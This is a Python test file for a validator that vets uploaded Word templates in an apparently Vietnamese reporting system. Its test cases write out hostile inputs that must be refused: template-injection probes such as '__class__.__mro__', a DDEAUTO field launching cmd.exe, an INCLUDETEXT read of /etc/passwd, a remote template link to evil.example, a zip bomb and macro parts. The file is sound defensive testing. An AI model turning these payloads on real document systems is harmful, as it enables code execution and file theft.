"""Templates that people upload: harmless ones pass, whatever could run, fetch or grow is refused, each mistake is named with its place."""

import io

import pytest
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Mm

from imports.reader.limits import Refused
from reporting.document.template import template_process
from reporting.document.template.package import MAX_BYTES
from reporting.document.template.refusals import TemplateRefused, describe_deviations, describe_problem
from reporting.document.template.standard_template import standard_template
from reporting.document.template.template_check import check_template
from tests.imports.made_files import saved, unzipped, zipped


def open_template():
    return Document(io.BytesIO(standard_template()))


def packed(document, **parts):
    """Return the file of a document, with parts of its package replaced or added."""
    return zipped(unzipped(saved(document)) | parts)


def test_the_standard_template_passes_its_own_check():
    report = check_template(standard_template())
    assert (report.problems, report.omissions, report.deviations) == ([], [], [])


@pytest.mark.parametrize(
    ("code", "problem", "name", "suggestion"),
    [
        ("{{ so_ky_hieuu }}", "unknown", "so_ky_hieuu", "so_ky_hieu"),
        ("{% if la_phan %}{% endif %}", "unknown", "la_phan", "muc.la_phan"),
        ("{{ muc.doann }}", "unknown", "muc.doann", "muc.doan"),
        ("{{ muc }}", "not_text", "muc", ""),
        ("{% for a in co_quan %}{% endfor %}", "not_a_list", "co_quan", ""),
        ("{% for a in muc %}{% for b in muc %}x{% endfor %}{% endfor %}", "not_allowed", "muc", ""),
        ("{{ 'a'*10**10 }}", "not_allowed", "", ""),
        ("{{ co_quan.__class__ }}", "not_allowed", "__class__", ""),
        ("{{ co_quan.upper() }}", "not_allowed", "", ""),
        ("{{ ''.__class__.__mro__ }}", "not_allowed", "", ""),
        ("{{ co_quan|attr('x') }}", "not_allowed", "attr", ""),
        ("{{ self._TemplateReference__context }}", "unknown", "self", ""),
        ("{% set x = co_quan %}", "not_allowed", "", ""),
        ("{% include 'x' %}", "not_allowed", "", ""),
        ("{% for x in range(9) %}{% endfor %}", "not_allowed", "", ""),
    ],
)
@pytest.mark.parametrize("place", ["body", "header"])
def test_code_beyond_placeholders_is_refused_with_its_paragraph(code, problem, name, suggestion, place):
    document = open_template()
    paragraphs = document.paragraphs if place == "body" else document.sections[0].header.paragraphs
    paragraphs[0].add_run(f" Tổng {code} lượt")
    found = check_template(packed(document)).problems[0]
    number = 11 if place == "body" else 1  # ten stand in the tables above the title
    assert (found.code, found.part, found.paragraph, found.name, found.suggestion) == (problem, place, number, name, suggestion)
    assert code[:10] in found.text or name in found.text


def test_messages_name_the_place_and_what_was_meant():
    document = open_template()
    document.paragraphs[0].add_run("Tổng {{ noi_nhann }} lượt")
    check = template_process.check_template(packed(document))
    assert [describe_problem(problem) for problem in check.problems] == [
        "Đoạn 11 (“{{ ten_loai }}Tổng {{ noi_nhann }} lượt”): không có chỗ điền “noi_nhann”. Có phải là “noi_nhan”?"
    ]


def test_code_split_over_runs_and_curly_quotes_is_read_as_word_leaves_it():
    split, with_quotes = open_template(), open_template()
    for part in ("{", "{ so_", "ky_hieu ", "}}"):
        split.paragraphs[0].add_run(part).bold = len(part) > 2
    with_quotes.paragraphs[0].add_run("{{ “x” }}")
    assert check_template(packed(split)).problems == []
    assert check_template(packed(with_quotes)).problems[0].code == "not_allowed"


def test_a_template_without_its_text_or_with_a_number_on_page_one_is_refused():
    empty, same_first_page, without_field = open_template(), open_template(), open_template()
    for paragraph in list(empty.paragraphs):
        paragraph._p.getparent().remove(paragraph._p)
    same_first_page.sections[0].different_first_page_header_footer = False
    without_field.sections[0].header.paragraphs[0].clear()
    assert {(problem.code, problem.name) for problem in check_template(packed(empty)).problems} == {
        ("missing", "muc"),
        ("missing", "muc.doan"),
    }
    assert [problem.code for problem in check_template(packed(same_first_page)).problems] == ["page_numbers"]
    assert [problem.code for problem in check_template(packed(without_field)).problems] == ["page_numbers"]


def test_a_page_that_differs_from_the_decree_is_named_in_words_and_taken():
    wide, landscape = open_template(), open_template()
    page = wide.sections[0]
    page.left_margin, page.top_margin, page.page_width = Mm(25), Mm(25.4), Mm(216)
    page = landscape.sections[0]
    page.page_width, page.page_height = page.page_height, page.page_width
    check = template_process.check_template(packed(wide))
    assert check.problems == []
    assert describe_deviations(check.deviations) == "khổ giấy 216 × 297 mm (quy định 210 × 297 mm); lề trái 25 mm (quy định 30–35 mm)"
    assert template_process.check_template(packed(landscape)).deviations == []


def add_field(document, instruction):
    run = document.paragraphs[0].add_run()
    for kind, text in (("begin", None), (None, instruction), ("end", None)):
        element = OxmlElement("w:fldChar" if kind else "w:instrText")
        if kind:
            element.set(qn("w:fldCharType"), kind)
        element.text = text
        run._r.append(element)


EXTERNAL = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" '
    'TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("fields", "parts", "code"),
    [
        ([], {"word/vbaProject.bin": b"x"}, "macros"),
        ([], {"word/embeddings/oleObject1.bin": b"x"}, "macros"),
        ([], {"word/_rels/settings.xml.rels": EXTERNAL}, "outside"),
        ([], {"word/bomb.xml": b" " * (41 * 2**20)}, "zip_bomb"),
        ([], {"word/settings.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}, "unsafe_xml"),
        ([' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '], {}, "field"),
        ([' INCLUDETEXT "/etc/passwd" '], {}, "field"),
        ([" PAGE {{ so_ky_hieu }} "], {}, "field"),
    ],
)
def test_files_that_do_more_than_hold_text_are_refused(fields, parts, code):
    document = open_template()
    for instruction in fields:
        add_field(document, instruction)
    with pytest.raises(Refused) as refusal:
        check_template(packed(document, **parts))
    assert refusal.value.code == code


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty_file"),
        (b"x" * (MAX_BYTES + 1), "too_large"),
        (b"%PDF-1.7 ...", "not_docx"),
        (bytes.fromhex("d0cf11e0a1b11ae1") + b"x" * 600, "old_word"),
        (b"PK\x03\x04 no zip", "damaged"),
    ],
)
def test_what_is_no_template_at_all_is_refused_with_a_sentence(content, code):
    with pytest.raises(TemplateRefused) as refusal:
        template_process.check_template(content)
    assert refusal.value.code == code and refusal.value.messages[0].endswith(".")
